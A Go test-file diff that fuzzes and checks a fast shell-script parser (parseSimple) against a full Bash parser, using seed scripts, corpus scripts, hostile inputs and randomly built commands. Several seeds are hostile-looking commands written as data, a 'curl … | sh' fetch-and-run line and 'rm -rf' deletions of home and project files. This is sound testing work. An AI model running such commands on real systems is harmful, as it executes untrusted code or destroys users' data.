@@ -1,6 +1,8 @@
 package shell
 
 import (
+	"math/rand/v2"
+	"reflect"
 	"slices"
 	"strings"
 	"testing"
@@ -73,6 +75,142 @@ func TestWalkTree(t *testing.T) {
 					t.Fatalf("%.80q, stopped at %d: walkTree visited %d nodes, syntax.Walk %d", s, stop, len(got.nodes), len(want.nodes))
 				}
 			}
+		}
+	}
+}
+
+// checkParseSimple fails t when parseSimple reads s to a tree other than
+// the parser's, or reads a script the parser refuses; it reports whether
+// parseSimple read s.
+func checkParseSimple(t *testing.T, s string) bool {
+	t.Helper()
+	got := parseSimple(s, new(simpleTree))
+	if got == nil {
+		return false
+	}
+	want, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(s), "")
+	if err != nil {
+		t.Fatalf("%q: parseSimple read it, the parser fails: %v", s, err)
+	}
+	if !reflect.DeepEqual(got, want) {
+		var g, w strings.Builder
+		_ = syntax.DebugPrint(&g, got)
+		_ = syntax.DebugPrint(&w, want)
+		t.Fatalf("%q: parseSimple read\n%s\nthe parser\n%s", s, g.String(), w.String())
+	}
+	return true
+}
+
+// simpleSeeds are scripts parseSimple reads, and scripts near them that
+// it must leave to the parser (an assignment, a reserved word, an
+// expansion, a heredoc, a comment, an fd number glued to a word).
+var simpleSeeds = []string{
+	"ls", "git status", " rm -rf ~ ", "cd /home/user/project && rm -rf ../*", "a | b | c && d || e; f & g &",
+	"echo 'a b'\"c d\"e '' \"\" x''y", "ls -la >/dev/null 2>&1 &", "2>err cmd <in >>out &>all &>>all2 <&0 >&2",
+	"a |& b", "curl -s http://203.0.113.5/b.sh | sh", "git commit -m \"fix: the build (again)!\"",
+	"echo a=b x+=1 =c", "grep -rn \"rm -rf\" . --include=*.sh", "echo *.go ? ~/x %s @a ^b",
+	"X=1 make", "if true", "export A=b", "time ls", "echo $HOME", "echo \"$x\"", "echo `x`", "cat <<EOF", "a # c",
+	"echo {a,b}", "! a", "a;;b", "a;&b", "a &;", "a &&", "| a", "a >", ">f", "a 2>&1>f", "a'b'2>f", "echo \\x",
+	"a\nb", "echo 'x\ny'", "a >|f", "a <>f", "a <<<x", "f() { a; }", "(a)", "[[ x ]]", "a[1]=x", "[ -f x ]",
+	"echo ü", "a\t&&\tb", "a&&b||c|d", "2>f", "12>f cmd", "cmd 12x>f", "a 2 >f", "in", "else", "let x=1",
+	"declare x", "local y", "coproc x", "select a", "function f", "@test", "nameref a", "a=b", "'a'=b c",
+}
+
+// FuzzParseSimple holds parseSimple to the parser (see checkParseSimple).
+func FuzzParseSimple(f *testing.F) {
+	for _, s := range simpleSeeds {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) { checkParseSimple(t, s) })
+}
+
+// TestParseSimple checks parseSimple against the parser over the seeds,
+// the corpus's scripts, the hostile inputs and scripts put together at
+// random from the pieces simple scripts are made of and the pieces
+// around them; and that it reads the simple ones.
+func TestParseSimple(t *testing.T) {
+	scripts := slices.Clone(simpleSeeds)
+	for _, c := range corpusCalls(t) {
+		scripts = append(scripts, c.Shell...)
+	}
+	for _, in := range hostile.Inputs() {
+		scripts = append(scripts, in.Script)
+	}
+	// pieces simple scripts are made of, and (one in eight) pieces of
+	// others or that change how the simple ones read
+	pieces := []string{"a", "rm", "-rf", "~/x", "2", "12", "a=b", "'q r'", "''", "\"s t\"", "\"\"", "*.go",
+		" ", " ", " ", " ", " ", "\t", ";", "&", "&&", "||", "|", "|&", ">", ">>", "<", ">&", "<&", "&>", "&>>"}
+	tricky := []string{"=", "x=1", "\"$x\"", "'", "\"", ">|", "<<", "<>", "<<<", "$x", "(", ")", "{", "}", "#", "!", "\n", "[", "]",
+		"\\", "`", "if", "export", "time", "in", "ü", "\r", ";;", "@(", "?(a)", "{}", "a[1]="}
+	rnd := rand.New(rand.NewPCG(1, 2))
+	for range 100000 {
+		var b strings.Builder
+		for range 1 + rnd.IntN(12) {
+			if rnd.IntN(8) == 0 {
+				b.WriteString(tricky[rnd.IntN(len(tricky))])
+			} else {
+				b.WriteString(pieces[rnd.IntN(len(pieces))])
+			}
+		}
+		scripts = append(scripts, b.String())
+	}
+	// and put together as commands: words of pieces, redirections,
+	// operators
+	words := []string{"a", "rm", "-rf", "~/x", "2", "12", "a=b", "'q r'", "''", "\"s t\"", "\"\"", "*.go", "x", "'", "$x", "#"}
+	ops := []string{";", "&", "&&", "||", "|", "|&", ";", "&&", "|"}
+	redirs := []string{">", ">>", "<", ">&", "<&", "&>", "&>>", "2>", "1<", "2>&", ">|"}
+	blank := func(b *strings.Builder) {
+		for range rnd.IntN(3) {
+			b.WriteString(" \t"[rnd.IntN(2) : rnd.IntN(2)+1])
+		}
+	}
+	for range 20000 {
+		var b strings.Builder
+		blank(&b)
+		for c := range 1 + rnd.IntN(5) {
+			if c > 0 {
+				blank(&b)
+				b.WriteString(ops[rnd.IntN(len(ops))])
+				blank(&b)
+			}
+			for w := range 1 + rnd.IntN(4) {
+				if w > 0 {
+					b.WriteString(" ")
+				}
+				if rnd.IntN(6) == 0 {
+					b.WriteString(redirs[rnd.IntN(len(redirs))])
+					blank(&b)
+				}
+				for range 1 + rnd.IntN(2+rnd.IntN(2)) {
+					b.WriteString(words[rnd.IntN(len(words)-2+rnd.IntN(3))])
+				}
+			}
+		}
+		if rnd.IntN(4) == 0 {
+			b.WriteString(ops[rnd.IntN(2)])
+		}
+		blank(&b)
+		scripts = append(scripts, b.String())
+	}
+	read := 0
+	for _, s := range scripts {
+		if checkParseSimple(t, s) {
+			read++
+		}
+	}
+	if read < len(scripts)/10 {
+		t.Errorf("parseSimple read %d of %d scripts", read, len(scripts))
+	}
+	for _, s := range []string{"ls", "cd /home/user/project && rm -rf ../*", "a | b | c && d || e; f & g &", "echo 'a b'\"c d\"e '' \"\" x''y",
+		"ls -la >/dev/null 2>&1 &", "2>err cmd <in >>out &>all &>>all2 <&0 >&2", "a |& b", "echo a=b x+=1 =c"} {
+		if !checkParseSimple(t, s) {
+			t.Errorf("%q: not read", s)
+		}
+	}
+	for _, s := range []string{"X=1 make", "if true", "export A=b", "time ls", "echo $HOME", "a # c", "echo {a,b}", "a 2>&1>f",
+		"a'b'2>f", "let x=1", "in", "a[1]=x", "echo \"$x\"", "a >|f", "a <<<x"} {
+		if parseSimple(s, new(simpleTree)) != nil {
+			t.Errorf("%q: read", s)
 		}
 	}
 }
